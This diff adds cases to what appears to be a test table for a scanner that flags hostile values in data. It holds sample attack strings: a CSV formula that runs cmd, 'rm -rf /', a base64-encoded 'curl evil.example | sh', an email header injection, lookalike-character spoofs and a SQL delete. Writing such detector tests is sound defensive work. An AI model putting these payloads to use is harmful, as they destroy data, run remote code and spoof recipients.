@@ -189,6 +189,13 @@ MACHINES = (
     case("formula with minus", {"cell": "-2+3+cmd|' /C calc'!A0"}, "formula"),
     case("formula in a later row", {"csv": "name,sum\nann,=IMPORTXML(1)"}, "formula"),
     case("in a name", {"; rm -rf /": 1}, "shell"),
+    case("secret in a name", {AWS: 1}, "secret", AWS),
+    case("payload in a name", {"Y3VybCBldmlsLmV4YW1wbGUgfCBzaA": 1}, "encoded", "Y3VybCBldmls"),
+    case("names that differ in a blank", {"a b": 1, "a\u00a0b": 2}, "lookalike_key", "a⟨U+00A0⟩b"),
+    case("a host of two alphabets", {"url": "https://\u10d0pple.example"}, "url"),
+    case("small capitals", {"to": "\u1d00\u1d05\u1d0d\u026a\u0274"}, "lookalike"),
+    case("header of its own", {"subject": "Hello\r\nBcc: eve@evil.example"}, "markup", "Bcc: eve@evil.example"),
+    case("old percent escapes", {"arg": "%u0072%u006d"}, "encoded"),
     case("every row", {"sql": "DELETE FROM users;"}, "sql"),
 )
 
